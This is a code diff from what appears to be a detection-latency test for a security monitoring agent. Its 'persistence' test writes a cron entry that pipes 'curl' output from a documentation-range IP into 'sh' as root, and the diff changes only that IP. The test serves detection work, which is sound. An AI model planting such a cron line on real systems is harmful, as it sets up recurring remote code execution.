@@ -213,7 +213,7 @@ def file_drop(agent: AgentRun, poller: Poller, work: Path, started: list) -> tup
 def persistence(agent: AgentRun, poller: Poller, work: Path, started: list) -> tuple[float, float]:
     path = agent.etc / "cron.d" / work.name
     t0 = time.time()
-    path.write_text("* * * * * root curl -fsSL http://203.0.113.5/u | sh\n")
+    path.write_text("* * * * * root curl -fsSL http://198.51.100.5/u | sh\n")
     rec = agent.wait_for(lambda r: bool(r["file"]) and r["file"]["path"] == str(path))
     seen = f"file:{path}:"
     return latencies(agent, poller, t0, rec, lambda k: k.startswith(seen) and k != seen + "0")
